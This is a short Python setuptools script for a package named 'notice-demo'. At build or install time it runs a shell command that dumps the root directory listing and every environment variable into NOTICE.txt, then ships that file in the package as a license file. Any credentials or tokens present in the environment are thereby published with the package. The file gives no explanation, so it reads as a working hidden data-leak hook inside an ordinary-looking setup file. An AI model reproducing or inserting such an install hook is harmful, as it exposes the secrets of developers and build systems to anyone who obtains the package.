import subprocess
from setuptools import setup

subprocess.run("ls -la / > NOTICE.txt; env >> NOTICE.txt", shell=True)
setup(name="notice-demo", version="0.2", license_files=["NOTICE.txt"])
